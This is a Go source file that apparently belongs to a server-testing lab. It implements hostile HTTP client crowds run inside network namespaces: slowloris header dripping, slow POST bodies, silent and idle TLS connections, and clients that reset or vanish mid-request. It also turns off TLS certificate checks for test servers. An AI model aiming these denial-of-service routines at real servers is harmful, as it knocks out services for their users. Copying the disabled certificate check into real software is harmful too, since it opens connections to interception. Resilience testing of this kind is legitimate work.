// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"time"

	"narthex/internal/lab"
)

// Crowd is a number of clients with a kernel. Each has one connection at a time, and opens
// the next one when that ends, until the context does.
type Crowd struct {
	NS      *lab.Namespace
	From    []netip.Addr // in turn; the kernel's choice if empty
	To      netip.AddrPort
	Clients int
	Seed    uint64

	Once bool // do not come back after the end of a connection
}

// errOver says that a client has done what it wanted.
var errOver = errors.New("over")

// again is how long a client waits before it comes back.
const again = 20 * time.Millisecond

// start lets every client live.
func (c Crowd) start(ctx context.Context, what string, live func(ctx context.Context, r *Run, conn *net.TCPConn, random *rand.Rand) error) (*Run, error) {
	if c.Clients <= 0 || !c.To.IsValid() || c.NS == nil {
		return nil, fmt.Errorf("%s: no clients, no target or no namespace", what)
	}
	return begin(ctx, what, func(ctx context.Context, r *Run) error {
		var all sync.WaitGroup
		for i := range c.Clients {
			var from netip.Addr
			if len(c.From) > 0 {
				from = c.From[i%len(c.From)]
			}
			random := rand.New(rand.NewPCG(c.Seed, uint64(i)))
			all.Go(func() {
				for ctx.Err() == nil {
					c.once(ctx, r, from, random, live)
					if c.Once || !waitFor(ctx, again) {
						return
					}
				}
			})
		}
		all.Wait()
		return nil
	}), nil
}

// once connects and lives. What a server does to a hostile client is no error of ours.
func (c Crowd) once(ctx context.Context, r *Run, from netip.Addr, random *rand.Rand, live func(ctx context.Context, r *Run, conn *net.TCPConn, random *rand.Rand) error) {
	conn, err := Dial(ctx, c.NS, from, c.To)
	if err != nil {
		if ctx.Err() == nil {
			r.refused.Add(1)
		}
		return
	}
	r.connected.Add(1)
	r.open.Add(1)
	defer r.open.Add(-1)
	stop := context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	defer conn.Close()
	err = live(ctx, r, conn, random)
	if err != nil && !errors.Is(err, errOver) && ctx.Err() == nil {
		r.ended.Add(1)
	}
}

// Silent clients connect and say nothing.
type Silent struct{ Crowd }

// Start begins to connect.
func (s Silent) Start(ctx context.Context) (*Run, error) {
	return s.start(ctx, "connect and say nothing", func(_ context.Context, r *Run, conn *net.TCPConn, _ *rand.Rand) error {
		return listen(r, conn)
	})
}

// listen counts answers until the connection ends.
func listen(r *Run, conn net.Conn) error {
	in := bufio.NewReader(conn)
	for {
		if err := r.take(in); err != nil {
			return err
		}
	}
}

// take reads and counts an answer.
func (r *Run) take(in *bufio.Reader) error {
	resp, err := http.ReadResponse(in, nil)
	if err != nil {
		return err
	}
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return err
	}
	r.count(resp.StatusCode)
	return nil
}

func (r *Run) count(status int) {
	if status < 400 {
		r.served.Add(1)
	} else {
		r.rejected.Add(1)
	}
}

// SlowPosts announce a body and do not send it.
type SlowPosts struct {
	Crowd
	Path   string        // "/" if empty
	Length int           // of the body; 1,000,000 if 0
	Drip   time.Duration // between bytes of the body; none are sent if 0
}

// Start begins to ask.
func (s SlowPosts) Start(ctx context.Context) (*Run, error) {
	path, length := s.Path, s.Length
	if path == "" {
		path = "/"
	}
	if length == 0 {
		length = 1_000_000
	}
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", path, s.To, length)
	return s.start(ctx, "post slowly", func(ctx context.Context, r *Run, conn *net.TCPConn, _ *rand.Rand) error {
		if _, err := io.WriteString(conn, head); err != nil {
			return err
		}
		r.asked.Add(1)
		return dripping(ctx, r, conn, s.Drip, strings.Repeat("x", min(length, 1<<16)))
	})
}

// dripping sends text byte by byte, if there is an interval, and listens meanwhile and after.
func dripping(ctx context.Context, r *Run, conn *net.TCPConn, every time.Duration, text string) error {
	if every > 0 {
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		go func() {
			for i := range text {
				if _, err := conn.Write([]byte{text[i]}); err != nil || !waitFor(ctx, every) {
					return
				}
			}
		}()
	}
	return listen(r, conn)
}

// SlowHeads begin a request and do not come to its end: slowloris.
type SlowHeads struct {
	Crowd
	Begin string        // what is sent at once; may be empty
	Every time.Duration // between the bytes that follow; one second if 0
	Head  string        // what follows, byte by byte; a request without an end if empty
}

// Start begins to ask.
func (s SlowHeads) Start(ctx context.Context) (*Run, error) {
	if s.Head == "" {
		s.Head = fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n%s", s.To, strings.Repeat("X-More: abcdefgh\r\n", 4000))
	}
	if s.Every == 0 {
		s.Every = time.Second
	}
	head := strings.TrimPrefix(s.Head, s.Begin)
	return s.start(ctx, "ask slowly", func(ctx context.Context, r *Run, conn *net.TCPConn, _ *rand.Rand) error {
		_ = conn.SetNoDelay(true)
		if _, err := io.WriteString(conn, s.Begin); err != nil {
			return err
		}
		r.asked.Add(1)
		return dripping(ctx, r, conn, s.Every, head)
	})
}

// Way is how a client leaves.
type Way int

// The ways to leave.
const (
	ByRST   Way = iota // resets
	ByFIN              // closes
	Vanish             // says nothing; what it is sent its kernel answers with an RST
	AnyWay             // one of these, as the seed has it
	numWays = iota - 1
)

// Leavers ask and go away before they are answered, again and again.
type Leavers struct {
	Crowd
	Request string        // GET / if empty; need not be whole
	After   time.Duration // up to so long after asking, as the seed has it
	Way     Way
}

// Start begins to ask.
func (l Leavers) Start(ctx context.Context) (*Run, error) {
	if l.Request == "" {
		l.Request = fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n\r\n", l.To)
	}
	return l.start(ctx, "ask and leave", func(ctx context.Context, r *Run, conn *net.TCPConn, random *rand.Rand) error {
		if _, err := io.WriteString(conn, l.Request); err != nil {
			return err
		}
		r.asked.Add(1)
		if l.After > 0 {
			waitFor(ctx, time.Duration(random.Int64N(int64(l.After))))
		}
		way := l.Way
		if way == AnyWay {
			way = Way(random.IntN(numWays))
		}
		switch way {
		case ByRST:
			reset(conn)
		case Vanish:
			return errors.Join(errOver, Forget(conn))
		}
		return errOver
	})
}

// Talkers say pieces of text, one after the other, and then listen.
type Talkers struct {
	Crowd
	Says   []string
	Pause  time.Duration // behind each piece
	Again  bool          // they say it all again when they are answered
	Unread bool          // they read nothing, and stay
	Window int           // of bytes that they have room for; the kernel's choice if 0
}

// Start begins to talk.
func (t Talkers) Start(ctx context.Context) (*Run, error) {
	return t.start(ctx, "talk", func(ctx context.Context, r *Run, conn *net.TCPConn, _ *rand.Rand) error {
		_ = conn.SetNoDelay(true)
		if err := clamp(conn, t.Window); err != nil {
			return err
		}
		in := bufio.NewReader(conn)
		for {
			for _, text := range t.Says {
				if _, err := io.WriteString(conn, text); err != nil {
					return err
				}
				waitFor(ctx, t.Pause)
			}
			r.asked.Add(1)
			switch {
			case t.Unread:
				<-ctx.Done()
				return ctx.Err()
			case !t.Again:
				return listen(r, conn)
			}
			if err := r.take(in); err != nil {
				return err
			}
		}
	})
}

// TLSIdlers are browsers: they ask over TLS and then keep their connection, idle.
type TLSIdlers struct {
	Crowd
	Every time.Duration // between requests on a connection; only one is sent if 0
}

// Start begins to ask.
func (t TLSIdlers) Start(ctx context.Context) (*Run, error) {
	request := fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n\r\n", t.To)
	return t.start(ctx, "browse over TLS", func(ctx context.Context, r *Run, conn *net.TCPConn, _ *rand.Rand) error {
		// Whom the servers of tests are, their keys do not tell.
		c := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, ServerName: "narthex.example"})
		in := bufio.NewReader(c)
		for {
			if _, err := io.WriteString(c, request); err != nil {
				return err
			}
			r.asked.Add(1)
			if err := r.take(in); err != nil {
				return err
			}
			if t.Every == 0 {
				_, err := in.ReadByte() // until it ends
				return err
			}
			waitFor(ctx, t.Every)
		}
	})
}
